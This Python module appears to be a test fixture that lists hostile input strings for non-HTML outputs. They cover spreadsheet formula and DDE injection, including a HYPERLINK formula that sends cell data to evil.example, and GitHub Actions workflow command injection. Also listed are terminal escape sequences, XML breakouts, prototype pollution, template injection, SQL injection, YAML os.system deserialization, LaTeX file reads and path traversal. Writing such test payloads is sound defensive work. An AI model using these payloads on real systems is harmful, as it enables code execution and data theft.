"""Texts for places that are not HTML: terminals, logs, spreadsheets, XML, scripts' own objects."""

from __future__ import annotations

from tests.hostile.markup import RUN
from tests.hostile.payload import group, numbered

CELLS = numbered(
    "cell",
    "a formula in a spreadsheet",
    (
        '=HYPERLINK("https://evil.example/?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "'=1+1",
        '"=1+1',
        '","=1+1","',
        "\ufeff=1+1",
        "\u200b=1+1",
        "%0A=1+1",
    ),
)
WORKFLOWS = numbered(
    "workflow",
    "a command to the host that runs the checks",
    (
        "::set-output name=x::y",
        "::add-mask::a",
        "  ::error::x",
        "x\n::error file=x::y",
        "x\r::stop-commands::y",
        "%0A::error::x",
        "::error::%0D%0A::warning::x",
        "##[add-mask]a",
        "x ##[error]y",
        "x,line=1::y",
        "\u2028::error::x",
    ),
)
HOST = numbered(
    "host",
    "a mention, a reference or markup on the page of a proposal",
    (
        "@kuntakesu/yllapito @kaikki",
        "Fixes #1, closes owner/repo#2, resolves https://github.com/x/y/issues/3",
        "</code></details>\n\n# Hyväksytty",
        "`</code>` ``` ~~~",
        "<details><summary>x</summary>",
        "![x](https://evil.example/seuraa.png)",
        "[Hyväksy](https://evil.example/)",
        "<!-- kuntakesu -->",
        "- [x] Hyväksytty",
        "$\\color{red}{x}$",
        ":+1: x@y.fi 0123456789abcdef0123456789abcdef01234567",
        "www.evil.example ftp://evil.example",
    ),
)
TERMINAL = numbered(
    "terminal",
    "a command to a terminal",
    (
        "\x1b[2J\x1b[31mx\x1b[0m",
        "\x9b2Jx",
        "\x1b]8;;https://evil.example/\x07x\x1b]8;;\x07",
        "\x1b]0;x\x07",
        "\x07\x07",
        "virhe\x08\x08\x08\x08\x08hyvä",
        "virhe\rhyvä",
        "x\x00y",
        "x\x7fy",
        "x\x85y",
        "x\x0by\x0cz",
    ),
)
XML = numbered(
    "xml",
    "an end of what stands around it in XML",
    (
        "]]>",
        "<?xml version='1.0'?><!DOCTYPE x>",
        "&nbsp;&evil;&#0;&#x1F;",
        "</title></entry><entry>",
        "\ufffe\uffff",
        "<x xmlns:atom='x' atom:y='z'/>",
        "\x01\x1f",
    ),
)
SCRIPTS_OBJECTS = group(
    "a name that objects of scripts have by themselves",
    prototype="__proto__",
    prototype_constructor="constructor",
    prototype_text="toString",
    prototype_property="hasOwnProperty",
    prototype_value="valueOf",
    prototype_path="constructor.prototype.x",
    prototype_then="then",
    clobbering_config="## __config",
    clobbering_texts="## kk-texts",
    clobbering_content="## content\n\n### facts",
    clobbering_constructor="## constructor\n\n### __proto__",
    clobbering_document="<a id=document name=body><img name=cookie><form id=kk-texts>",
)
TEMPLATES = numbered(
    "template",
    "an expression of a template, a format or a query",
    (
        "{{ 7*7 }}{% for x in y %}",
        "{{ config.__class__.__init__.__globals__ }}",
        "{% include 'mkdocs.yml' %}{# x",
        "${7*7} #{7*7} <%= 7*7 %>",
        "{title} {0.__class__} {count} {name!r}",
        "%s %(x)s %n",
        "$& $1 $` $' \\1 \\g<0>",
        "{{constructor.constructor('alert(1)')()}}",
        "' OR 1=1 --",
        "\ue000-1\ue000 \ue0000\ue000",
    ),
)
DATA = numbered(
    "data",
    "a line or a field of its own in a file for programs",
    (
        '"}]}</script><script>alert(1)</script>',
        '\\"};alert(1);//',
        "x\u2028alert(1)\u2029y",
        "TY  - BOOK\nER  - \nUR  - https://evil.example/",
        "x}, url = {https://evil.example/}, y = {",
        "\\input{/etc/passwd} \\write18{x} %",
        '"@en ; a <https://evil.example/> .',
        "---\ntitle: x\ntemplate: redirect.html\n---",
        "title: x\nstatus: approved",
        "!!python/object/apply:os.system [x]",
        "&a [*a, *a]",
        "# kommentti",
        "x: |\n  y",
    ),
)
SHAPES = group(
    "a text of a shape that breaks a layout, or reads otherwise than it is",
    long_word="x" * 190,
    long_address="https://evil.example/" + "x" * 170,
    rightward="\u202egpj.exe\u202c x",
    isolated="\u2066x\u2069 \u200f\u200e\u061c",
    invisible="\u200b\u200c\u200d\u2060\ufeff",
    combining="Z" + "\u0300\u0316" * 60,
    brackets="[" * 90 + "]" * 90,
    stars="*_" * 90,
    quotes=">" * 100 + " x",
    emoji="👩‍👩‍👧‍👦🏴‍☠️ 𝕏𝖞",
    device_name="con",
    way_up="../../../../etc/passwd",
    letters_alike="ехаmрlе.fi",
    running_on=f"x{RUN}" + " y" * 60,
)
FORMATS = CELLS + WORKFLOWS + HOST + TERMINAL + XML + SCRIPTS_OBJECTS + TEMPLATES + DATA + SHAPES
